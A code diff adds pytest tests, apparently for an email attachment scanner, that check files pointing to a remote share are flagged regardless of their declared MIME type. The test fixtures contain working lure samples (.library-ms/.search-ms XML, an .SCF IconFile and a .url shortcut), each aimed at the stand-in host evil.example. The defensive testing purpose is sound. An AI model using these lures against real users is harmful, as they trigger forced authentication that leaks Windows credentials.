@@ -267,3 +267,31 @@ def test_null_octets_hide_no_link_from_programs_that_drop_them(zeros: bytes) -> 
     assert [(each.url, each.skip_reason) for each in found] == [
         ("https://evil.example/", SkipReason.UNSAFE_CHARSET)
     ]
+
+
+LIBRARY = (
+    '<?xml version="1.0"?>\r\n<libraryDescription><simpleLocation>'
+    "<url>\\\\evil.example\\share</url></simpleLocation></libraryDescription>\r\n"
+)
+
+
+@pytest.mark.parametrize(
+    ("content", "body"),
+    [
+        ("Content-Type: application/octet-stream; name=a.library-ms", LIBRARY),
+        ("Content-Type: application/xml; name=a.search-ms", LIBRARY),
+        ("Content-Type: application/windows-library+xml\r\nContent-Disposition: attachment", LIBRARY),
+        ("Content-Type: image/png; name=a.SCF", "[Shell]\r\nIconFile=\\\\evil.example\\share\r\n"),
+        ("Content-Type: image/png; name=a.url", "[InternetShortcut]\r\nURL=file://evil.example/share\r\n"),
+    ],
+)
+def test_a_file_that_opens_a_share_is_read_whatever_its_type_says(content: str, body: str) -> None:
+    _, manifest = received(content, body)
+    assert manifest.unprotected == (R.SHOWN_ATTACHMENT,)
+    assert [each.url.replace("\\", "/").split("/")[2] for each in manifest.candidates] == ["evil.example"]
+
+
+def test_a_picture_and_a_file_without_an_address_are_attachments_whatever_they_are_called() -> None:
+    for content in ("Content-Type: image/png; name=a.url", "Content-Type: image/png; name=a.png"):
+        _, manifest = received(content, "[InternetShortcut]\r\n")
+        assert manifest.unprotected == ()
